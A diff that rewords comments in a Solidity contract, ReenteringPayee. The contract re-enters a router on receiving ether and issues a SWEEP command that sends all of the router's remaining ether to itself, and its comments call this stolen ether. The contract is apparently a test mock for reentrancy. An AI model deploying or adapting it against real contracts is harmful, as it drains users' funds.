@@ -5,7 +5,7 @@ interface IRouter {
     function execute(bytes calldata commands, bytes[] calldata inputs) external payable;
 }
 
-/// @notice Is paid by the router, and asks it at once for all the ether that is left in it.
+/// @notice When the router pays it, immediately requests all the ether that is left in the router.
 contract ReenteringPayee {
     IRouter private immutable router;
 
@@ -14,10 +14,10 @@ contract ReenteringPayee {
     }
 
     receive() external payable {
-        // The second payment is the loot.
+        // The second payment is the stolen ether.
         if (msg.sender != address(router) || address(router).balance == 0) return;
         bytes[] memory inputs = new bytes[](1);
-        // SWEEP of ether, to this contract, any amount.
+        // SWEEP of any amount of ether to this contract.
         inputs[0] = abi.encode(address(0), address(this), 0);
         router.execute(hex'04', inputs);
     }
